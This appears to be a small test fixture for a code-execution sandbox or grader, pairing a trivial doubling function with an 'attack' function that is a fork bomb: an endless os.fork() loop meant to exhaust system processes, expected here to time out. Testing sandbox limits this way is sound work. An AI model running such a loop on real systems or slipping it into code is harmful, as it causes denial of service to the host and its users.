# expected: attack timeout, double passed, riddle skipped
# row: 20
import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def double(x):
    return x * 2
